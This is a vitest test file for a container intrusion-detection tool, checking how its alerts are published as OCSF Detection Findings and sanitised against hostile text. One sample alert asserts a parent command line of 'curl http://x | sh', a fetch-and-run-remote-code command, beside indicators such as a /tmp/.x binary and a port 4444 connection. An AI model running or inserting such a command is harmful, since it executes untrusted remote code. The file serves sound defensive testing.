import { describe, expect, it } from 'vitest';
import type { FileEvidence } from '../../../proto/generated/tallyman/v1/finding.ts';
import type { Alert } from '../../decide/alert.ts';
import { decide } from '../../decide/decide.ts';
import { loadDefaultPolicy } from '../../decide/policy.ts';
import { formatAlert } from '../format-alert.ts';
import { OcsfSchema } from '../testing/ocsf-schema.ts';
import {
  sampleAlert,
  sampleContainerId,
  sampleCorrelated,
  sampleFinding,
  sampleOwned,
  samplePapers,
  sampleProcesses,
} from '../testing/sample-alert.ts';

const schema = new OcsfSchema();
const hostile = ['\u0000\u001b[31m', '\u202egnp.exe', 'lone \ud800 surrogate', '"}\n{"', '😀'.repeat(50), '\\'];

// biome-ignore lint/suspicious/noExplicitAny: the tests look into published JSON.
type Published = any;

function published(alert: Alert): Published {
  return JSON.parse(formatAlert(alert).cloudEvent).data;
}

function enrichment(alert: Alert, name: string): { value: string; data: Record<string, unknown> } | undefined {
  return published(alert).enrichments.find((entry: { name: string }) => entry.name === name);
}

const changedFile: FileEvidence = {
  operation: 'chmod',
  path: '/usr/bin/su',
  target: '',
  targetCategory: '',
  category: 'program',
  watchedPath: '/usr/bin',
  fileType: 'regular',
  mode: 0o4755,
  sizeBytes: 1234n,
  count: 1n,
};

const network = {
  transport: 'tcp',
  family: 'ipv4',
  remoteAddress: '203.0.113.9',
  remotePort: 4444,
  localAddress: '172.17.0.2',
  localPort: 50_000,
  state: 'attempted',
  count: 3n,
};
const event = (kind: string, evidence: object) =>
  ({ kind, timeUnixNs: 1_795_000_000_000_000_000n, ktimeNs: 1n, evidence }) as never;

const variants: [string, () => Alert][] = [
  ['a written program in a verified image', () => sampleAlert()],
  [
    'an owned program in an unsigned image',
    () => sampleAlert(sampleCorrelated(sampleFinding(), samplePapers('absent'), sampleOwned)),
  ],
  [
    'a posture finding',
    () =>
      sampleAlert({
        ...sampleCorrelated(
          sampleFinding({
            processes: [],
            event: event('posture', { $case: 'posture', value: { fields: ['privileged'] } }),
          }),
        ),
        ownership: undefined,
      }),
  ],
  [
    'a connection',
    () =>
      sampleAlert(sampleCorrelated(sampleFinding({ event: event('connect', { $case: 'network', value: network }) }))),
  ],
  [
    'a listening socket without addresses',
    () =>
      sampleAlert(
        sampleCorrelated(
          sampleFinding({
            event: event('tcp', {
              $case: 'network',
              value: { ...network, remoteAddress: '', localAddress: '', state: 'listening', localPort: 70_000 },
            }),
          }),
        ),
      ),
  ],
  [
    'an address that is none',
    () =>
      sampleAlert(
        sampleCorrelated(
          sampleFinding({
            event: event('connect', { $case: 'network', value: { ...network, remoteAddress: 'not an address' } }),
          }),
        ),
      ),
  ],
  [
    'a capability use',
    () =>
      sampleAlert(
        sampleCorrelated(
          sampleFinding({
            event: event('capability', {
              $case: 'capability',
              value: {
                capability: 21,
                capabilityName: 'CAP_SYS_ADMIN',
                syscallNumber: 165,
                syscallName: 'mount',
                granted: true,
                count: 2n ** 63n,
              },
            }),
          }),
        ),
      ),
  ],
  [
    'a file that was changed',
    () => sampleAlert(sampleCorrelated(sampleFinding({ event: event('file', { $case: 'file', value: changedFile }) }))),
  ],
  [
    'a file that was gone',
    () => {
      const value = { ...changedFile, path: '/', fileType: 'unknown', mode: undefined, sizeBytes: undefined };
      return sampleAlert(sampleCorrelated(sampleFinding({ event: event('file', { $case: 'file', value }) })));
    },
  ],
  [
    'nothing but a rule',
    () =>
      sampleAlert({
        ...sampleCorrelated(
          sampleFinding({
            findingId: '',
            ruleId: '',
            ruleTitle: '',
            summary: '',
            remediation: '',
            severity: 0,
            mitre: [{}],
            event: undefined,
            processes: [{}],
            container: undefined,
          }),
          samplePapers('unknown'),
        ),
        ownership: { state: 'no-ownership-data', path: '', reason: '' },
      }),
  ],
  [
    'a pod',
    () =>
      sampleAlert(
        sampleCorrelated(
          sampleFinding({
            container: {
              id: sampleContainerId,
              namespace: 'payments',
              podName: 'checkout-7d9f',
              podUid: '123e4567-e89b-12d3-a456-426614174000',
            },
          }),
          samplePapers('invalid', 'untrusted', 'untrusted'),
        ),
      ),
  ],
];

describe('the OCSF Detection Finding', () => {
  it.each(variants)('fits the schema: %s', (_, make) => {
    expect(schema.validate(published(make()))).toEqual([]);
  });

  it.each(hostile)('fits the schema with %j in every text of the container', (text) => {
    const [acting, ...above] = sampleProcesses();
    const finding = sampleFinding({
      summary: text,
      ruleTitle: text,
      container: {
        id: text,
        name: text,
        runtime: text,
        namespace: text,
        labels: { [text]: text },
        image: { reference: text },
      },
      processes: [{ ...acting, argv: [text, text], comm: text, cwd: text, executable: { path: `/${text}` } }, ...above],
      fields: { [text]: text },
      event: event('connect', { $case: 'network', value: { ...network, remoteAddress: text, transport: text } }),
    });
    const data = published(sampleAlert(sampleCorrelated(finding)));
    expect(schema.validate(data)).toEqual([]);
    for (const shown of [data.message, data.finding_info.title, data.finding_info.desc.replaceAll('\n', '')]) {
      expect(shown).not.toMatch(/[\p{Cc}\p{Cs}\u202e]/u);
      expect(shown.isWellFormed()).toBe(true);
    }
    expect(data.evidences[0].data.argv).toEqual([text.toWellFormed(), text.toWellFormed()]);
  });

  it('carries a file with what was done to it', () => {
    const finding = sampleFinding({ event: event('file', { $case: 'file', value: changedFile }) });
    const { file, data } = published(sampleAlert(sampleCorrelated(finding))).evidences[0];
    expect(file).toEqual({ name: 'su', path: '/usr/bin/su', type_id: 8, size: 1234 });
    expect(data.file).toMatchObject({ operation: 'chmod', category: 'program', mode: '4755', count: 1 });
  });

  it('carries rule, process chain, container and papers where subscribers look for them', () => {
    const alert = sampleAlert();
    const data = published(alert);
    expect(data.finding_info.analytic.uid).toBe('exec-drift');
    const { process, container } = data.evidences[0];
    expect(process).toMatchObject({ pid: 1041, uid: 'b00t1d00:1041:1041000:1', file: { path: '/tmp/.x' } });
    expect(process.user.uid).toBe('33');
    expect(process.parent_process.cmd_line).toBe("sh -c 'curl http://x | sh'");
    expect(process.parent_process.parent_process.parent_process).toMatchObject({ name: 'tini' });
    expect(container).toMatchObject({ uid: sampleContainerId, name: 'checkout', runtime: 'docker' });
    expect(container.image).toEqual({
      uid: `sha256:${'9f'.repeat(32)}`,
      name: 'registry.acme.io:5000/checkout',
      tag: '4.2.1',
    });
    expect(container.labels).toEqual(['app=checkout']);
    expect(enrichment(alert, 'image.signature')).toMatchObject({
      value: 'verified',
      data: { signer: { name: 'release.pub' } },
    });
    expect(enrichment(alert, 'image.sbom')?.value).toBe('verified');
    expect(enrichment(alert, 'image.provenance')?.value).toBe('absent');
    expect(enrichment(alert, 'process.package')?.value).toBe('not-in-image');
    expect(enrichment(alert, 'container.posture')?.value).toBe('default');
    expect(enrichment(alert, 'decision')).toMatchObject({
      value: alert.decision.severity,
      data: { score: alert.decision.score, policy_version: alert.decision.policyVersion },
    });
    expect(data.unmapped.trace).toEqual({ uid: alert.traceId, span: { uid: alert.spanId } });
    expect(data.finding_info.desc).toContain('this is an intrusion, not a bad build');
  });

  it('names package, method and confidence of an owned program', () => {
    const alert = sampleAlert(sampleCorrelated(sampleFinding(), samplePapers('verified'), sampleOwned));
    expect(enrichment(alert, 'process.package')).toMatchObject({
      value: 'owned',
      data: { purls: ['pkg:deb/debian/dash@0.5.12-2'], method: 'exact', confidence: 'high' },
    });
  });

  it('has no package for findings without a process', () => {
    const alert = {
      ...sampleAlert(),
      correlated: { ...sampleCorrelated(sampleFinding({ processes: [] })), ownership: undefined },
    };
    expect(enrichment(alert, 'process.package')).toBeUndefined();
  });

  it('says what a recorded decision is', () => {
    const correlated = sampleCorrelated();
    const decision = { ...decide(correlated, loadDefaultPolicy()), action: 'record' as const };
    const data = published({ ...sampleAlert(), decision });
    expect(data).toMatchObject({ is_alert: false, disposition: 'Logged' });
    expect(schema.validate(data)).toEqual([]);
  });
});
